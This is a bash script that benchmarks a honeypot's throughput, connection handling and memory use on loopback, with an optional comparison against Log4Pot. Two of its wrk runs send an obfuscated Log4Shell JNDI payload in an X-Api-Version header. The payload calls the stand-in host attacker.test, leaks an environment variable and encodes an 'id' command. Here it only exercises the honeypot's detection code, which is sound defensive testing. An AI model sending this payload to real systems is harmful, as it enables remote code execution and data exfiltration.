#!/usr/bin/env bash
# bench/honeypot/run.sh -- load figures of `defuse honeypot` on loopback:
#   1. requests/s on keep-alive connections (wrk -t1 -c32), honeypot on one core
#   2. connections/s (wrk with "Connection: close": one request per connection)
#   3. requests/s with an obfuscated Log4Shell payload in a header (every
#      request deobfuscated and logged)
#   4. RSS holding 10,000 idle connections
# and, when a Log4Pot checkout is given (LOG4POT=/path/to/Log4Pot), the same
# wrk runs against it on the same core.  Each wrk run reports wall-clock
# requests/s and the CPU time the honeypot used per request (cpu_per_req.sh):
# the second does not depend on other load on the machine.
# Usage: bench/honeypot/run.sh [path/to/defuse]   (default build/defuse)
# The honeypot is pinned to CPU 0 (taskset), wrk to CPU 1.
set -euo pipefail
cd "$(dirname "$0")/../.."
DEFUSE=${1:-build/defuse}
DUR=${DUR:-10}
T=$(mktemp -d /tmp/defuse-hp-bench.XXXXXX)
PIDS=()
cleanup() { for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done; wait 2>/dev/null || true; rm -rf "$T"; }
trap cleanup EXIT
read -r PORT < <(python3 tests/e2e/honeypot/peers.py freeports 1)
cat >"$T/hp.conf" <<CONF
node bench
log_file $T/events.jsonl
max_connections 20000
max_requests 100000
dedup_window 0
rate_per_source 1000000
rate_burst 1000000
rate_global 0
idle_timeout 60s
[listener web]
protocol http
listen 127.0.0.1:$PORT
CONF
ulimit -n "$(ulimit -Hn)" 2>/dev/null || true
: >"$T/hp.err"
taskset -c 0 "$DEFUSE" honeypot -c "$T/hp.conf" 2>"$T/hp.err" &
HP=$!
PIDS+=($HP)
for i in $(seq 100); do grep -q ready "$T/hp.err" && break; sleep 0.05; done
grep -q ready "$T/hp.err" || { cat "$T/hp.err" >&2; exit 1; }
echo "== defuse honeypot $("$DEFUSE" --version) on 127.0.0.1:$PORT (CPU 0), wrk on CPU 1, ${DUR}s each"
echo "-- 1. keep-alive GET /, wrk -t1 -c32 (every request logged)"
bench/honeypot/cpu_per_req.sh "$HP" "http://127.0.0.1:$PORT/" "$DUR"
echo "-- 2. one request per connection (Connection: close), wrk -t1 -c32"
bench/honeypot/cpu_per_req.sh "$HP" "http://127.0.0.1:$PORT/" "$DUR" -H "Connection: close"
echo "-- 3. keep-alive, obfuscated payload in a header (deobfuscated + logged each time)"
bench/honeypot/cpu_per_req.sh "$HP" "http://127.0.0.1:$PORT/api" "$DUR" \
    -H 'X-Api-Version: ${${lower:j}${::-n}di:ldap://${env:USER}.attacker.test/Basic/Command/Base64/aWQ=}'
ev=$(wc -l <"$T/events.jsonl")
det=$(grep -c '"kind":"jndi"' "$T/events.jsonl" || true)
echo "   events logged so far: $ev ($det with a jndi finding)"
echo "-- 4. 10,000 idle connections"
taskset -c 1 python3 bench/honeypot/idle_conns.py "$PORT" 10000 "$HP"
kill -TERM "$HP"; wait "$HP" || true
echo "   $(grep stopped: "$T/hp.err")"

# Log4Pot (github.com/thomaspatzke/Log4Pot, Python, standard library only
# without its optional payloader/cloud features), run from a checkout.
if [ -n "${LOG4POT:-}" ] && [ -f "$LOG4POT/log4pot-server.py" ]; then
    read -r LP < <(python3 tests/e2e/honeypot/peers.py freeports 1)
    (cd "$LOG4POT" && exec taskset -c 0 python3 log4pot-server.py --port "$LP" --log "$T/log4pot.log" >"$T/log4pot.out" 2>&1) &
    L4=$!
    PIDS+=($L4)
    for i in $(seq 100); do curl -s -o /dev/null "http://127.0.0.1:$LP/" && break; sleep 0.1; done
    echo "== Log4Pot ($LOG4POT) on 127.0.0.1:$LP (CPU 0)"
    echo "-- 1. keep-alive GET /, wrk -t1 -c32"
    bench/honeypot/cpu_per_req.sh "$L4" "http://127.0.0.1:$LP/" "$DUR"
    echo "-- 3. payload in a header"
    bench/honeypot/cpu_per_req.sh "$L4" "http://127.0.0.1:$LP/api" "$DUR" \
        -H 'X-Api-Version: ${${lower:j}${::-n}di:ldap://${env:USER}.attacker.test/Basic/Command/Base64/aWQ=}'
    echo "-- 4. 2,000 idle connections (a thread per connection)"
    taskset -c 1 python3 bench/honeypot/idle_conns.py "$LP" 2000 "$L4" || true
fi
